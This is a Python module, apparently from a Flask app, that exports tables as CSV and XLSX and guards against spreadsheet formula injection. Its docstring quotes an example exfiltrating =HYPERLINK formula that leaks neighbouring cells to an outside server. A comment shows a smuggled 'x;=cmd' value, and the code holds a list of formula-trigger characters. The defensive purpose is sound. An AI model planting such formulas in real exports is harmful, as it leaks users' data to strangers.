"""Tables as downloads: CSV (UTF-8 with BOM, so spreadsheet programs read Chinese) and XLSX.

Every download goes through ``csv_response`` or ``xlsx_response``, and both neutralise cells that a
spreadsheet program would run as a formula (OWASP "CSV injection"): an address or a unit name is
typed by a phone user, and ``=HYPERLINK("http://…?"&A1,"…")`` in it would otherwise send the
neighbouring cells to a stranger's server, or worse, when an officer opens the due list.
"""

from __future__ import annotations

import csv
import io

from flask import Response, request

CSV = "text/csv"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
GEOJSON = "application/geo+json"
JSON = "application/json"


def wanted(format_param: str | None) -> str:
    """json | csv | xlsx | geojson: the format= parameter, else the best Accept match (JSON by default)."""
    if format_param:
        return format_param
    offered = [JSON, CSV, XLSX, GEOJSON]
    best = request.accept_mimetypes.best_match(offered, default=JSON)
    if best != JSON and request.accept_mimetypes[best] <= request.accept_mimetypes[JSON]:
        return "json"
    return {JSON: "json", CSV: "csv", XLSX: "xlsx", GEOJSON: "geojson"}[best]


# A cell whose text starts with one of these is a formula to Excel, LibreOffice or Google Sheets
# (tab and carriage return: some of them skip leading whitespace first). OWASP's list.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value) -> bool:
    """The one rule of every export: would a spreadsheet program read this cell as a formula?
    Only text: numbers (a negative days_overdue) are numbers, not formulas."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_cell(value):
    """A CSV cell that no spreadsheet program runs: formula-like text gets a leading apostrophe
    (OWASP's advice; the text after it is left as typed), None is empty."""
    if value is None:
        return ""
    return "'" + value if formula_like(value) else value


def xlsx_cell(sheet, value):
    """An XLSX cell that no spreadsheet program runs. XLSX types its cells, so formula-like text is
    written as a text cell (openpyxl would otherwise store it as a formula) with Excel's own "quote
    prefix" mark: shown exactly as typed, and it stays text when someone edits the cell."""
    if not formula_like(value):
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


# On a download cut at its row limit: the number of rows it holds. A client that sees it knows the
# file is not the whole list and narrows its filter (or asks for the JSON pages, which hold it all).
TRUNCATED = "X-Export-Truncated"


def capped(rows: list, limit: int) -> tuple[list, dict]:
    """``rows`` fetched with limit + 1: the rows a download holds, and the headers saying it is cut."""
    if len(rows) > limit:
        return rows[:limit], {TRUNCATED: str(limit)}
    return rows, {}


def csv_response(header: list[str], rows: list[list], filename: str, headers: dict | None = None) -> Response:
    out = io.StringIO()
    out.write("\ufeff")
    # Every cell quoted (OWASP): where the spreadsheet's list separator is ';', an unquoted
    # "x;=cmd" would otherwise split into a second cell that starts with '='.
    writer = csv.writer(out, quoting=csv.QUOTE_ALL)
    writer.writerow([csv_cell(v) for v in header])
    writer.writerows([[csv_cell(v) for v in row] for row in rows])
    return Response(
        out.getvalue().encode("utf-8"),
        mimetype=CSV,
        headers={"Content-Disposition": f'attachment; filename="{filename}.csv"', **(headers or {})},
    )


def xlsx_response(
    header: list[str], rows: list[list], filename: str, sheet: str, headers: dict | None = None
) -> Response:
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    ws = book.create_sheet(sheet)
    ws.append([xlsx_cell(ws, v) for v in header])
    for row in rows:
        ws.append([xlsx_cell(ws, v) for v in row])
    out = io.BytesIO()
    book.save(out)
    return Response(
        out.getvalue(),
        mimetype=XLSX,
        headers={"Content-Disposition": f'attachment; filename="{filename}.xlsx"', **(headers or {})},
    )
